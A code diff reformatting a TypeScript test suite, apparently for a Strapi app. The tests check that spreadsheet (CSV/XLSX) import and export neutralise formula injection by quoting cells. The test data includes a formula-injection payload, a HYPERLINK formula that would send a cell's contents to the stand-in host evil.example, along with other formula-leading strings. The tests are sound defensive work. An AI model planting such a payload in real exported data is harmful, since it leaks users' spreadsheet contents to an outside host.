@@ -9,7 +9,14 @@ import { readRow } from '../src/services/import/values';
 import { ADMIN, startApp, type TestApp } from './helpers/app';
 import type { Client } from './helpers/client';
 
-const DANGEROUS = ['=HYPERLINK("https://evil.example/?d="&A1;"klik")', '+31 6 12345678', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
+const DANGEROUS = [
+  '=HYPERLINK("https://evil.example/?d="&A1;"klik")',
+  '+31 6 12345678',
+  '-2+3',
+  '@SUM(A1:A2)',
+  '\t=1+1',
+  '\r=1+1',
+];
 
 describe('the shared helper', () => {
   it('puts a quote before a cell that starts like a formula, and only then', () => {
@@ -20,11 +27,12 @@ describe('the shared helper', () => {
   });
 
   it('restores exactly what it neutralised', () => {
-    for (const text of [...DANGEROUS, 'Anna', "'al tekst", "'"]) expect(restoreCell(String(neutraliseCell(text)))).toBe(text);
+    for (const text of [...DANGEROUS, 'Anna', "'al tekst", "'"])
+      expect(restoreCell(String(neutraliseCell(text)))).toBe(text);
   });
 
   it('the import reads an exported cell as it was', () => {
-    const row = readRow(['a@b.nl', "'=HYPERLINK(\"x\")", "'+31 Achter"], ['email', 'firstName', 'lastName']);
+    const row = readRow(['a@b.nl', '\'=HYPERLINK("x")', "'+31 Achter"], ['email', 'firstName', 'lastName']);
     expect(row.fields).toMatchObject({ firstName: '=HYPERLINK("x")', lastName: '+31 Achter' });
   });
 });
@@ -40,19 +48,43 @@ describe('the import error file echoes uploaded cells neutralised', () => {
     return Buffer.concat(chunks);
   };
   async function* entries() {
-    yield { line: 2, cells: ['=1+1', '@evil'], reason: 'E-mail: is geen geldig e-mailadres', code: 'email', field: 'email' };
+    yield {
+      line: 2,
+      cells: ['=1+1', '@evil'],
+      reason: 'E-mail: is geen geldig e-mailadres',
+      code: 'email',
+      field: 'email',
+    };
   }
 
   it('in CSV', async () => {
-    const csv = await toBuffer((out) => writeErrorFile(out, entries(), ['E-mail', '+Naam'], { format: 'csv', encoding: 'utf-8', bom: false, delimiter: ';' }));
+    const csv = await toBuffer((out) =>
+      writeErrorFile(out, entries(), ['E-mail', '+Naam'], {
+        format: 'csv',
+        encoding: 'utf-8',
+        bom: false,
+        delimiter: ';',
+      }),
+    );
     expect(csv.toString('utf8')).toBe("E-mail;'+Naam;Fout\r\n'=1+1;'@evil;E-mail: is geen geldig e-mailadres\r\n");
   });
 
   it('in XLSX', async () => {
-    const xlsx = await toBuffer((out) => writeErrorFile(out, entries(), ['E-mail', 'Naam'], { format: 'xlsx', encoding: null, bom: false, delimiter: null }));
+    const xlsx = await toBuffer((out) =>
+      writeErrorFile(out, entries(), ['E-mail', 'Naam'], {
+        format: 'xlsx',
+        encoding: null,
+        bom: false,
+        delimiter: null,
+      }),
+    );
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(xlsx as any);
-    expect((workbook.worksheets[0].getRow(2).values as unknown[]).slice(1)).toEqual(["'=1+1", "'@evil", 'E-mail: is geen geldig e-mailadres']);
+    expect((workbook.worksheets[0].getRow(2).values as unknown[]).slice(1)).toEqual([
+      "'=1+1",
+      "'@evil",
+      'E-mail: is geen geldig e-mailadres',
+    ]);
   });
 });
 
@@ -63,26 +95,45 @@ describe('the profile export', () => {
   beforeAll(async () => {
     app = await startApp();
     admin = await app.login(ADMIN);
-    await app.strapi.db.query('api::profile.profile').create({ data: { email: 'formule@example.nl', firstName: NAME, lastName: '@Kwaad', phoneNumber: '+31 6 12345678', type: 'LEAD' } });
+    await app.strapi.db.query('api::profile.profile').create({
+      data: {
+        email: 'formule@example.nl',
+        firstName: NAME,
+        lastName: '@Kwaad',
+        phoneNumber: '+31 6 12345678',
+        type: 'LEAD',
+      },
+    });
   });
   afterAll(() => app?.stop());
 
   const get = async (format: string) => {
-    const res = await fetch(`${app.url}/api/profiles/export?format=${format}&filters[email][$eq]=formule@example.nl`, { headers: { cookie: [...admin.jar].map(([k, v]) => `${k}=${v}`).join('; ') } });
+    const res = await fetch(`${app.url}/api/profiles/export?format=${format}&filters[email][$eq]=formule@example.nl`, {
+      headers: { cookie: [...admin.jar].map(([k, v]) => `${k}=${v}`).join('; ') },
+    });
     expect(res.status).toBe(200);
     return Buffer.from(await res.arrayBuffer());
   };
 
   it('writes no live formula to CSV', async () => {
     const lines = (await get('csv')).subarray(3).toString('utf8').split('\r\n');
-    expect(lines[1]).toMatch(/^formule@example\.nl;"'=HYPERLINK\(""https:\/\/evil\.example\/\?d=""&A1;""klik""\)";'@Kwaad;LEAD;UNKNOWN;'\+31 6 12345678;/);
+    expect(lines[1]).toMatch(
+      /^formule@example\.nl;"'=HYPERLINK\(""https:\/\/evil\.example\/\?d=""&A1;""klik""\)";'@Kwaad;LEAD;UNKNOWN;'\+31 6 12345678;/,
+    );
   });
 
   it('writes no live formula to XLSX', async () => {
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load((await get('xlsx')) as any);
     const row = workbook.worksheets[0].getRow(2);
-    expect((row.values as unknown[]).slice(1, 7)).toEqual(['formule@example.nl', `'${NAME}`, "'@Kwaad", 'LEAD', 'UNKNOWN', "'+31 6 12345678"]);
+    expect((row.values as unknown[]).slice(1, 7)).toEqual([
+      'formule@example.nl',
+      `'${NAME}`,
+      "'@Kwaad",
+      'LEAD',
+      'UNKNOWN',
+      "'+31 6 12345678",
+    ]);
     expect(row.getCell(2).type).toBe(ExcelJS.ValueType.String);
   });
 });
